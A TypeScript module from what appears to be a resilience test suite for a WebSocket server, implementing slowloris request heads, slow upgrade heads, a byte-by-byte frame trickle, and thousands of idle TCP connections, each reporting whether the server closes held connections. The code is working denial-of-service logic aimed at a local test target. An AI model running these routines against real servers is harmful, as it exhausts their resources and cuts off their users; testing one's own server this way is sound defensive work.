// Attacks that hold resources by being slow: heads that never end, a frame trickled byte by byte,
// and thousands of idle TCP connections. They cost the client almost nothing: one timer walks
// all the sockets.
import type { Socket } from 'node:net';
import type { Attack, AttackContext } from '../context.ts';
import { frameHeader, OP, upgradeHead } from '../raw.ts';

/** Opens `n` connections from `ip`, `batch` at a time (the listen backlog is finite). */
async function openMany(ctx: AttackContext, ip: string, n: number, batch = 200): Promise<Socket[]> {
  const sockets: Socket[] = [];
  while (ctx.running && sockets.length < n) {
    const wave = Array.from({ length: Math.min(batch, n - sockets.length) }, () => ctx.dial(ip));
    await Promise.all(wave.map((s) => new Promise((r) => (s.connecting ? s.once('connect', r).once('close', r) : r(null)))));
    sockets.push(...wave);
  }
  return sockets;
}

/**
 * Watches what the server does to held connections: an HTTP status (408, 431…) or a close.
 * Returns a function that tells how many are still open.
 */
function watchHeld(ctx: AttackContext, sockets: Socket[]): { open(): number; closedAfter: number[] } {
  const closedAfter: number[] = [];
  const t0 = Date.now();
  for (const s of sockets) {
    s.once('data', (d: Buffer) => {
      const m = /^HTTP\/1\.1 (\d{3})/.exec(d.toString('latin1', 0, 16));
      ctx.answer(m ? `http ${m[1]}` : 'data');
    });
    s.once('close', () => {
      if (ctx.running) {
        closedAfter.push(Date.now() - t0);
        ctx.answer('closed by server');
      }
    });
  }
  return { open: () => sockets.filter((s) => !s.destroyed).length, closedAfter };
}

/** Sends `head` minus its end, then one more header byte per socket every `everyMs`. */
async function slowloris(ctx: AttackContext, head: string, count: number): Promise<void> {
  // Half the connections start with 8 KiB of headers: memory the server holds while it waits.
  const padding = `X-Pad: ${'p'.repeat(8 * 1024)}\r\n`;
  const start = head.replace(/\r\n\r\n$/, '\r\n');
  // From 4 addresses, as a slowloris tool spreads over a few.
  const sockets: Socket[] = [];
  for (let k = 0; k < 4 && ctx.running; k++) sockets.push(...(await openMany(ctx, ctx.ip(k), Math.ceil(count / 4))));
  sockets.forEach((s, i) => {
    s.write(i % 2 ? start + padding : start);
  });
  const held = watchHeld(ctx, sockets);
  let trickled = 0;
  const started = Date.now();
  while (ctx.running) {
    await ctx.sleep(1000);
    // A header line, one byte per second: "X-a: b\r\n" never ends the head.
    const byte = 'Xab:cd\r\n'[trickled++ % 8];
    for (const s of sockets) if (!s.destroyed) s.write(byte);
  }
  const open = held.open();
  const seconds = ((Date.now() - started) / 1000).toFixed(0);
  ctx.note(
    `${sockets.length} heads, ${open} still open after ${seconds} s${held.closedAfter.length ? `, first closed after ${(Math.min(...held.closedAfter) / 1000).toFixed(1)} s` : ''}`,
  );
}

export const slowlorisHeads: Attack = {
  name: 'slowloris-heads',
  title: 'request heads that never end (one byte per second), 1,000 connections from 4 IPs (short: 300)',
  async run(ctx) {
    await slowloris(ctx, 'GET /fondations/api-websocket/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n', ctx.scaled(1000, 300));
  },
};

export const slowlorisUpgrades: Attack = {
  name: 'slowloris-upgrades',
  title: 'WebSocket upgrade heads to a real session that never end, 1,000 connections from 4 IPs (short: 300)',
  async run(ctx) {
    const id = await ctx.createSession(ctx.ip());
    if (!id) return ctx.note('no session');
    await slowloris(ctx, upgradeHead(`/s/${id}/echo`), ctx.scaled(1000, 300));
  },
};

/**
 * A frame announced with a 1,000-byte payload, then trickled one byte every 50 ms, on 20
 * connections (the per-session connection limit). Ends when the server closes or the deadline.
 */
export const frameTrickle: Attack = {
  name: 'frame-trickle',
  title: 'a frame trickled one byte per 50 ms on each of 20 connections of one session',
  async run(ctx) {
    const id = await ctx.createSession(ctx.ip());
    if (!id) return ctx.note('no session');
    const opened = await Promise.all(Array.from({ length: 20 }, () => ctx.ws(ctx.ip(), `/s/${id}/echo`)));
    const sockets = opened.filter((ws) => ws.open);
    for (const ws of sockets) ws.send(frameHeader(OP.binary, 1000));
    const t0 = Date.now();
    // When each connection stopped being open (close frame or cut), seen at the next tick.
    const closedAfter: number[] = [];
    const seen = new Set<unknown>();
    let sent = 0;
    const one = Buffer.from([0x42]);
    while (ctx.running && sockets.some((ws) => ws.open)) {
      await ctx.sleep(50);
      for (const ws of sockets) {
        if (ws.open) ws.send(one);
        else if (!seen.has(ws)) {
          seen.add(ws);
          closedAfter.push(Date.now() - t0);
        }
      }
      sent++;
    }
    for (const ws of sockets) if (!ws.open && !seen.has(ws)) closedAfter.push(Date.now() - t0);
    if (sockets.length === 0) return ctx.note('no connection accepted');
    const still = sockets.filter((ws) => ws.open).length;
    const seconds = ((Date.now() - t0) / 1000).toFixed(1);
    ctx.note(
      still
        ? `${still} of ${sockets.length} frames still unfinished and open after ${seconds} s (${sent} bytes each): no time limit seen`
        : `all ${sockets.length} closed by the server${closedAfter.length ? `, first after ${(Math.min(...closedAfter) / 1000).toFixed(1)} s` : ''}`,
    );
  },
};

/** Thousands of TCP connections that never send a byte (well under the 20,000 open files). */
export const idleConnections: Attack = {
  name: 'idle-connections',
  title: '3,000 idle TCP connections that never send a byte (short: 1,000), from 3 IPs',
  async run(ctx) {
    const per = Math.ceil(ctx.scaled(3000, 1000) / 3);
    const sockets: Socket[] = [];
    for (let k = 0; k < 3 && ctx.running; k++) sockets.push(...(await openMany(ctx, ctx.ip(k), per)));
    const held = watchHeld(ctx, sockets);
    const t0 = Date.now();
    while (ctx.running) await ctx.sleep(500);
    ctx.note(`${sockets.length} connections, ${held.open()} still open after ${((Date.now() - t0) / 1000).toFixed(0)} s`);
  },
};
